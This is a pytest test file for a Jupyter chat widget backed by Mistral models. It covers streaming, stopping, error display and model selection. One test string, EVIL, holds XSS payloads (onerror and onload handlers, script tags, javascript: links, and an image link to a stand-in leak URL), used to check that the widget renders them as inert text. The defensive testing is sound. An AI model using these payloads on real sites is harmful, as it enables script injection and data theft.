"""``ChatWidget`` driven in-process, against the in-process emulator.

A test coroutine runs under ``asyncio.run`` (the kernel's loop in miniature): it clicks the
widget's buttons (or sends the front end's own ``click`` / ``submit`` messages) and awaits the
reply. A recording comm stands in for the front end, so every state update the widget would
send is counted (throttling) and scanned (inertness), next to ``get_state()`` of every widget.
"""

from __future__ import annotations

import asyncio
import itertools
import time
from collections.abc import Callable, Coroutine, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any

import comm as comm_package
import ipywidgets
import pytest
from html_allowlist import violations
from ipywidgets.widgets.widget import _instances

from nb_mistral._client import Mistral
from nb_mistral._errors import APIError, StreamError
from nb_mistral._render._view import STYLE
from nb_mistral._widgets import ChatWidget
from nb_mistral.emulator import Emulator

pytestmark = pytest.mark.timeout(60)


# -- a front end that records what it is sent ------------------------------------------------


@dataclass
class Sent:
    comm_id: str
    msg_type: str  # comm_open, comm_msg, comm_close
    data: dict[str, Any]
    t: float


@dataclass
class FrontEnd:
    """Every widget message the kernel side sends, as a front end would receive it."""

    sent: list[Sent] = field(default_factory=list)

    def updates(self, widget: ipywidgets.Widget, key: str) -> list[Sent]:
        """State updates of ``key`` on ``widget`` after it was opened."""
        return [
            s
            for s in self.sent
            if s.comm_id == widget.model_id
            and s.msg_type == "comm_msg"
            and key in (s.data.get("state") or {})
        ]

    def opened(self) -> list[str]:
        return [s.comm_id for s in self.sent if s.msg_type == "comm_open"]

    def state_strings(self, skip: Callable[[Sent, str], bool] = lambda s, k: False) -> list[str]:
        """Every string the front end was given as widget state (``skip`` leaves out keys)."""
        found: list[str] = []
        for s in self.sent:
            state = s.data.get("state") or {}
            for key, value in state.items():
                if not skip(s, key):
                    found.extend(_strings(value))
        return found


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, (list, tuple)):
        for v in value:
            yield from _strings(v)


@pytest.fixture
def frontend(monkeypatch: pytest.MonkeyPatch) -> FrontEnd:
    """Widgets made during the test talk to a recording comm instead of a dummy one."""
    record = FrontEnd()

    class RecordingComm(comm_package.DummyComm):
        def publish_msg(self, msg_type: str, data: Any = None, *args: Any, **kw: Any) -> None:
            record.sent.append(Sent(self.comm_id, msg_type, dict(data or {}), time.monotonic()))

    monkeypatch.setattr(ipywidgets.comm, "create_comm", RecordingComm)
    return record


def run(coro: Coroutine[Any, Any, Any]) -> Any:
    return asyncio.run(coro)


async def wait_until(predicate: Callable[[], bool], timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        if time.monotonic() > deadline:
            raise TimeoutError("condition not met")
        await asyncio.sleep(0.01)


def front_end_click(button: ipywidgets.Button) -> None:
    """What a browser click sends to the kernel."""
    data = {"method": "custom", "content": {"event": "click"}}
    button._handle_msg({"content": {"data": data}, "buffers": []})


def front_end_enter(text: ipywidgets.Text, value: str) -> None:
    """What typing ``value`` and pressing Enter sends to the kernel."""
    update = {"method": "update", "state": {"value": value}, "buffer_paths": []}
    text._handle_msg({"content": {"data": update}, "buffers": []})
    submit = {"method": "custom", "content": {"event": "submit"}}
    text._handle_msg({"content": {"data": submit}, "buffers": []})


def body_of(widget: ChatWidget, turn: int = -1) -> ipywidgets.HTML:
    """The HTML widget of an assistant turn (answer and status line)."""
    message = widget.transcript.children[2 * turn + 1 if turn >= 0 else turn]
    assert isinstance(message, ipywidgets.VBox)
    body = message.children[-1]
    assert isinstance(body, ipywidgets.HTML)
    return body


def text_of(html_value: str) -> str:
    parser = _Collect()
    parser.feed(html_value)
    return "".join(parser.text)


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

        self.in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        self.in_style = tag == "style"

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_endtag(self, tag: str) -> None:
        self.in_style = False

    def handle_data(self, data: str) -> None:
        if not self.in_style:  # our stylesheet is not text anybody reads
            self.text.append(data)


def assert_inert(value: str) -> None:
    """Only the renderer's allowlist and the widget's own chrome: no model tag as markup,
    no event handler, no script link, no stylesheet but ours."""
    lowered = value.lower()
    for tag in ("<img", "<script", "<svg", "<iframe", "<object", "<embed", "<math"):
        assert tag not in lowered, f"{tag} in widget state: {value[:300]!r}"
    assert violations(value, chrome=True, style=STYLE) == [], value[:2000]


# -- tests -----------------------------------------------------------------------------------


def test_send_streams_in_throttled_steps(
    emulator_factory: Callable[..., Emulator], frontend: FrontEnd
) -> None:
    emu = emulator_factory(tokens_per_second=60)
    rate = 10

    async def main() -> None:
        async with Mistral(server_url=emu.url) as client:
            w = ChatWidget(client=client, max_updates_per_second=rate, max_tokens=60)
            w.input.value = "Tell me about streaming"
            started = time.monotonic()
            w.send_button.click()
            assert w.input.value == ""
            reply = w.last_reply
            assert reply is not None and not reply.done
            assert w.send_button.disabled and not w.stop_button.disabled
            await reply
            elapsed = time.monotonic() - started
            assert reply.error is None and reply.tokens == 60
            assert not w.send_button.disabled and w.stop_button.disabled

            user, _message = w.transcript.children
            assert "Tell me about streaming" in text_of(user.value)
            body = body_of(w)
            updates = frontend.updates(body, "value")
            # several visible steps, and no more than the throttle allows (+ first and final)
            assert len(updates) >= 3, len(updates)
            assert len(updates) <= elapsed * rate + 3, (len(updates), elapsed)
            # paced: one update per 1/rate, except the first text (shown at once) and the end
            times = [u.t for u in updates[:-1]]
            gaps = [b - a for a, b in itertools.pairwise(times)]
            assert len([gap for gap in gaps if gap < 0.9 / rate]) <= 1, gaps
            # the text grows step by step, and the last step shows the whole reply exactly
            shown = [text_of(u.data["state"]["value"]) for u in updates]
            words = reply.text.split()
            assert sum(words[-1] in text for text in shown) == 1
            assert body.value == updates[-1].data["state"]["value"]
            final = text_of(body.value)
            assert final.replace("\n", "").endswith("length")  # the status line's finish reason
            assert "60 tokens" in final and "streaming…" not in final
            assert any("streaming…" in text for text in shown)
            assert w.messages == [
                {"role": "user", "content": "Tell me about streaming"},
                {"role": "assistant", "content": reply.text},
            ]

    run(main())


def test_second_turn_carries_the_conversation(
    emulator_factory: Callable[..., Emulator], frontend: FrontEnd
) -> None:
    emu = emulator_factory()

    async def main() -> None:
        async with Mistral(server_url=emu.url) as client:
            w = ChatWidget("mistral-small-latest", "Be brief.", client=client, max_tokens=20)
            assert w.messages == [{"role": "system", "content": "Be brief."}]
            first = await w.send("First question")
            assert first is w.last_reply and first.done
            w.input.value = "Second question"
            w.send_button.click()
            second = await w.last_reply
            sent = emu.requests[-1].json
            assert sent["model"] == "mistral-small-latest"
            assert sent["max_tokens"] == 20 and sent["stream"] is True
            assert sent["messages"] == [
                {"role": "system", "content": "Be brief."},
                {"role": "user", "content": "First question"},
                {"role": "assistant", "content": first.text},
                {"role": "user", "content": "Second question"},
            ]
            assert w.messages == [*sent["messages"], {"role": "assistant", "content": second.text}]
            assert second.text and second.text != first.text
            assert len(w.transcript.children) == 4
            # a short text/plain fallback, whatever the transcript holds
            assert repr(w) == "<ChatWidget mistral-small-latest (2 turns)>"
            bundle = w._repr_mimebundle_()
            assert bundle["text/plain"] == repr(w)

    run(main())


def test_stop_keeps_a_proper_prefix_and_closes_the_connection(
    emulator_factory: Callable[..., Emulator], frontend: FrontEnd
) -> None:
    emu = emulator_factory(tokens_per_second=40)

    async def main() -> None:
        async with Mistral(server_url=emu.url) as client:
            w = ChatWidget(client=client, max_tokens=400)
            reply = w.send("Please stop me")
            await wait_until(lambda: reply.deltas >= 5)
            front_end_click(w.stop_button)
            await reply
            assert reply.stopped and reply.done
            assert await asyncio.to_thread(emu.wait_for_disconnect, 5)
            partial = reply.text
            full = (
                (
                    await client.chat.complete_async(
                        model=reply.model, messages=reply.request_messages, max_tokens=400
                    )
                )
                .choices[0]
                .message.content
            )
            assert partial and len(partial) < len(full) and full.startswith(partial)
            # shown in the transcript, marked stopped; kept in the conversation
            final = text_of(body_of(w).value)
            assert "stopped" in final
            assert w.messages[-1] == {"role": "assistant", "content": partial}
            assert not w.streaming and not w.send_button.disabled and w.stop_button.disabled
            # and the widget goes on
            emu.tokens_per_second = None
            again = await w.send("Go on")
            assert again.error is None and again.text
            assert emu.requests[-1].json["messages"][1] == {"role": "assistant", "content": partial}

    run(main())


def test_stop_before_the_task_begins_still_ends_the_reply(
    emulator_factory: Callable[..., Emulator], frontend: FrontEnd
) -> None:
    emu = emulator_factory()

    async def main() -> None:
        async with Mistral(server_url=emu.url) as client:
            w = ChatWidget(client=client)
            reply = w.send("never mind")
            w.stop()
            await asyncio.wait_for(reply._wait(), 5)
            assert reply.stopped and reply.text == ""
            assert not w.streaming and w.messages == []
            assert "stopped" in text_of(body_of(w).value)
            assert (await w.send("now")).text

    run(main())


def test_api_error_shows_one_line_and_a_later_send_works(
    emulator_factory: Callable[..., Emulator], frontend: FrontEnd
) -> None:
    emu = emulator_factory(api_key="right-key")

    async def main() -> None:
        async with (
            Mistral(server_url=emu.url, api_key="wrong-key") as wrong,
            Mistral(server_url=emu.url, api_key="right-key") as right,
        ):
            w = ChatWidget(client=wrong)
            w.input.value = "Hello?"
            w.send_button.click()
            failed = await w.last_reply
            assert isinstance(failed.error, APIError) and failed.error.status_code == 401
            body = body_of(w).value
            lines = [line for line in text_of(body).splitlines() if "401" in line]
            assert len(lines) == 1 and "Unauthorized" in lines[0] and len(lines[0]) < 200
            assert "APIError" in lines[0]
            assert "right-key" not in body and "wrong-key" not in body
            # the failed turn stays visible but is not part of the conversation
            assert w.messages == [] and not w.streaming and not w.send_button.disabled
            w.client = right
            w.input.value = "Hello again"
            w.send_button.click()
            ok = await w.last_reply
            assert ok.error is None and ok.text
            assert emu.requests[-1].json["messages"] == [{"role": "user", "content": "Hello again"}]
            assert len(w.transcript.children) == 4

    run(main())


def test_no_key_for_the_official_server_is_one_line_that_says_what_to_do(
    frontend: FrontEnd,
) -> None:
    async def main() -> None:
        client = Mistral(api_key=None, server_url="https://api.mistral.ai")
        w = ChatWidget(client=client)
        await w.models_task  # fails without a key, before any network
        assert w.model_dropdown.options == ("mistral-large-latest",)
        reply = await w.send("Hi")
        assert reply.error is not None
        lines = [line for line in text_of(body_of(w).value).splitlines() if "⚠" in line]
        assert len(lines) == 1 and "MISTRAL_API_KEY" in lines[0]
        assert not w.streaming

    run(main())


def test_broken_stream_keeps_the_partial_reply(
    emulator_factory: Callable[..., Emulator], frontend: FrontEnd
) -> None:
    emu = emulator_factory(tokens_per_second=50)

    async def main() -> None:
        async with Mistral(server_url=emu.url, max_retries=0) as client:
            w = ChatWidget(client=client, max_tokens=400)
            reply = w.send("Cut me off")
            await wait_until(lambda: reply.deltas >= 5)
            await asyncio.to_thread(emu.stop)
            await reply
            assert isinstance(reply.error, StreamError)
            assert reply.text and w.messages[-1]["content"] == reply.text
            shown = text_of(body_of(w).value)
            assert "StreamError" in shown and "stopped" not in shown
            assert not w.streaming and not w.send_button.disabled

    run(main())


EVIL = (
    "Look: <img src=x onerror=alert(1)> and <script>alert(2)</script> "
    "and <svg onload=alert(3)></svg> and [x](javascript:alert(4)) "
    "and <a href=javascript:alert(5)>y</a> and ![z](https://example.invalid/leak?q=secret) "
    "and ![d](data:image/png;base64,iVBORw0KGgo=) and [v](VBScript:msgbox) "
    "and <JAVASCRIPT:alert(7)>\n\n"
    "```html\n<img src=y onerror=alert(6)>\n```"
)


def test_model_html_reaches_no_markup(
    emulator_factory: Callable[..., Emulator], frontend: FrontEnd
) -> None:
    emu = emulator_factory(tokens_per_second=400)

    async def main() -> ChatWidget:
        async with Mistral(server_url=emu.url) as client:
            w = ChatWidget("magistral-small-latest", system="<b>sys</b>", client=client)
            front_end_enter(w.input, EVIL)
            reply = await w.last_reply
            assert reply.error is None
            assert "<img src=x onerror=alert(1)>" in reply.text  # quoted back verbatim
            await w.send("second " + EVIL)
            return w

    w = run(main())
    # the front end was sent nothing but inert markup, in any update (the input box's own
    # value is what the user typed, shown as text in an <input>, never parsed as markup)
    input_id = w.input.model_id

    def typed(sent: Sent, key: str) -> bool:
        return sent.comm_id == input_id and key == "value"

    strings = frontend.state_strings(skip=typed)
    assert any("<img src=x onerror=alert(1)>" in text_of(s) for s in strings)  # shown as text
    for value in strings:
        assert_inert(value)
    # and the state of every widget made, as it is now (the input is empty again)
    opened = frontend.opened()
    assert len(opened) > 10
    for comm_id in opened:
        widget = _instances.get(comm_id)
        if widget is not None:
            for value in _strings(widget.get_state()):
                assert_inert(value)
    # Markdown formatting is kept: headings, code, tables, the quote, a link to the image
    body = body_of(w, 0).value
    for tag in ("<h2>", "<code>", "<table>", "<blockquote>", "<pre>"):
        assert tag in body
    # an image is never fetched, only linked to
    assert '<a href="https://example.invalid/leak?q=secret" target="_blank"' in body
    assert "🖼 z" in text_of(body)
    # literal inside the (highlighted) code block
    assert '<span class="na">onerror</span><span class="o">=</span>' in body
    assert "<img src=y onerror=alert(6)>" in text_of(body)


def test_thinking_is_shown_apart(
    emulator_factory: Callable[..., Emulator], frontend: FrontEnd
) -> None:
    emu = emulator_factory(tokens_per_second=30)

    async def main() -> None:
        async with Mistral(server_url=emu.url) as client:
            w = ChatWidget("magistral-medium-latest", client=client, max_tokens=30)
            reply = w.send("Think first")
            message = w.transcript.children[1]
            await wait_until(lambda: bool(reply.thinking) and not reply.text)
            await wait_until(lambda: len(message.children) == 2)
            accordion = message.children[0]
            assert isinstance(accordion, ipywidgets.Accordion)
            assert accordion.titles == ("Thinking",) and accordion.selected_index == 0
            await reply
            assert reply.thinking and reply.thinking not in reply.text
            assert accordion.selected_index is None  # collapsed once the answer came
            thought = text_of(accordion.children[0].value)
            assert "Emulated reasoning" in thought
            assert "Emulated reasoning" not in text_of(body_of(w).value)
            assert "Emulated reasoning" not in w.messages[-1]["content"]

    run(main())


def test_model_dropdown_lists_the_servers_models(
    emulator_factory: Callable[..., Emulator], frontend: FrontEnd
) -> None:
    emu = emulator_factory()

    async def main() -> None:
        async with Mistral(server_url=emu.url) as client:
            listed = {card.id for card in (await client.models.list_async()).data}
            w = ChatWidget(client=client)
            assert w.model_dropdown.options == ("mistral-large-latest",)
            await w.models_task
            assert set(w.model_dropdown.options) == listed
            assert w.model == "mistral-large-latest" and w.models_error is None
            # a configured model the server does not list stays, first and chosen
            v = ChatWidget("mistral-large-2411", client=client)
            await v.models_task
            assert v.model_dropdown.options[0] == "mistral-large-2411"
            assert v.model == "mistral-large-2411"
            # the choice is used by the next request
            w.model_dropdown.value = "codestral-latest"
            await w.send("code please")
            assert emu.requests[-1].json["model"] == "codestral-latest"

    run(main())


def test_model_dropdown_falls_back_when_the_server_is_down(frontend: FrontEnd) -> None:
    with Emulator() as emu:
        url = emu.url  # now nobody listens there

    async def main() -> None:
        async with Mistral(server_url=url, max_retries=0) as client:
            w = ChatWidget("mistral-small-latest", client=client)
            await w.models_task
            assert w.model_dropdown.options == ("mistral-small-latest",)
            assert w.model == "mistral-small-latest"
            assert w.models_error is not None
            # sending fails in the widget, as one line, and leaves it usable
            reply = await w.send("anyone?")
            assert reply.error is not None and not w.streaming
            assert "⚠" in text_of(body_of(w).value)

    run(main())


def test_enter_sends_and_is_ignored_while_streaming(
    emulator_factory: Callable[..., Emulator], frontend: FrontEnd
) -> None:
    emu = emulator_factory(tokens_per_second=100)

    async def main() -> None:
        async with Mistral(server_url=emu.url) as client:
            w = ChatWidget(client=client, max_tokens=30)
            front_end_enter(w.input, "by Enter")
            reply = w.last_reply
            assert reply is not None and w.input.value == ""
            front_end_enter(w.input, "too early")
            front_end_click(w.send_button)
            assert w.last_reply is reply and w.input.value == "too early"
            await reply
            front_end_click(w.send_button)
            assert w.last_reply is not reply
            await w.last_reply
            assert [
                r.json["messages"][-1]["content"]
                for r in emu.requests
                if r.path.endswith("completions")
            ] == [
                "by Enter",
                "too early",
            ]
            # empty input: nothing happens
            front_end_enter(w.input, "   ")
            assert emu.requests[-1].json["messages"][-1]["content"] == "too early"
            with pytest.raises(RuntimeError):
                w.send("x")
                w.send("y")
            await w.last_reply

    run(main())


def test_clear_forgets_the_conversation(
    emulator_factory: Callable[..., Emulator], frontend: FrontEnd
) -> None:
    emu = emulator_factory(tokens_per_second=40)

    async def main() -> None:
        async with Mistral(server_url=emu.url) as client:
            w = ChatWidget(system="sys", client=client, max_tokens=200)
            await w.send("one")
            streaming = w.send("two")
            await wait_until(lambda: streaming.deltas >= 2)
            old = list(w.transcript.children)
            front_end_click(w.clear_button)
            assert w.transcript.children == () and w.last_reply is None
            assert w.messages == [{"role": "system", "content": "sys"}]
            assert all(child.comm is None for child in old)  # closed for the front end
            assert not w.streaming and not w.send_button.disabled
            # a new chat starts at once, while the stopped stream is still closing
            emu.tokens_per_second = None
            third = w.send("three")
            await streaming
            assert streaming.stopped
            await third
            assert emu.requests[-1].json["messages"] == [
                {"role": "system", "content": "sys"},
                {"role": "user", "content": "three"},
            ]
            assert w.messages == [
                {"role": "system", "content": "sys"},
                {"role": "user", "content": "three"},
                {"role": "assistant", "content": third.text},
            ]
            assert len(w.transcript.children) == 2 and not w.streaming

    run(main())


def test_without_a_running_loop(frontend: FrontEnd) -> None:
    w = ChatWidget(client=Mistral(server_url="http://127.0.0.1:9"))
    assert w.models_task is None and w.model == "mistral-large-latest"
    with pytest.raises(RuntimeError, match="event loop"):
        w.send("hello")
    w.input.value = "hello <b>there</b>"
    w.send_button.click()  # the handler shows the failure instead of raising
    assert "RuntimeError" in w.notice.value and "<b>" not in w.notice.value
    assert w.transcript.children == () and not w.streaming
    w.close()
    assert w.comm is None and w.input.comm is None
